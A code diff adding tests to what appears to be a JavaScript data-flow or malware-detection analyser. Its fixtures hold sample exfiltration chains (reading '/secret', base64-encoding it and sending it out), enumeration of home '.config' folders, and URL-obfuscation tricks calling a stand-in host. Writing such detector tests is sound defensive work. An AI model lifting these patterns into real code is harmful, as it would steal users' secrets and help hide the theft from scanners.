@@ -172,3 +172,49 @@ describe('by the global object', () => {
     assert.deepEqual(effects, []);
   });
 });
+
+describe('one step after the other', () => {
+  const steps = {
+    'a.js': `module.exports = () => require('fs').promises.readFile('/secret', 'utf8')`,
+    'b.js': `module.exports = async t => Buffer.from(t).toString('base64')`,
+    'c.js': `module.exports = b => ${POST}`,
+  };
+  const all = `const a = require('./a'), b = require('./b'), c = require('./c');`;
+  for (const code of [
+    `${all} a().then(b).then(c)`,
+    `${all} Promise.resolve().then(a).then(b).then(c)`,
+    `${all} [a, b, c].reduce((before, step) => before.then(step), Promise.resolve())`,
+    `['a', 'b', 'c'].map(name => require('./' + name)).reduce((before, step) => before.then(step), Promise.resolve())`,
+  ]) {
+    it(`hands on what it has: ${code.slice(-60)}`, () =>
+      assert.deepEqual(flowLines({ 'index.js': code, ...steps }), ['fs.promises.readFile → fetch as content']));
+  }
+
+  it('is not taken for any order', () =>
+    assert.deepEqual(
+      flowLines({ 'index.js': `${all} [c, b, a].reduce((before, step) => before.then(step), Promise.resolve())`, ...steps }),
+      [],
+    ));
+
+  it('tells where the next one looks', () => {
+    const lines = behaviourOf({
+      'index.js': `['where', 'look'].map(name => require('./' + name)).reduce((before, step) => before.then(step), Promise.resolve())`,
+      'where.js': `const { join } = require('path'); module.exports = async () => Object.values(require('./names')).map(name => join(require('os').homedir(), '.config', name, 'x'))`,
+      'names.js': `module.exports = { one: 'One', two: 'Two' }`,
+      'look.js': `module.exports = async folders => { for (const folder of folders) require('fs').readdirSync(folder); }`,
+    }).effects.map(lineOf);
+    assert.ok(lines.includes('import lists files fs.readdirSync(<home>/.config/*/x)'), lines.join('\n'));
+  });
+});
+
+describe('a text that is made', () => {
+  for (const [how, code] of [
+    ['by a function that joins its pieces', `const j = (...a) => a.join(''); fetch(j('https://', 'b', '.in', 'valid')); j('x', 'y')`],
+    [
+      'as the message of an error',
+      `class E extends TypeError { constructor(c) { super('https://b.invalid'); this.c = c; } } fetch(new E(1).message)`,
+    ],
+  ] as const)
+    it(`${how} is known`, () =>
+      assert.match(behaviourOf({ 'index.js': code }).effects.map(lineOf).join(), /fetch\(https:\/\/b\.invalid\)/));
+});
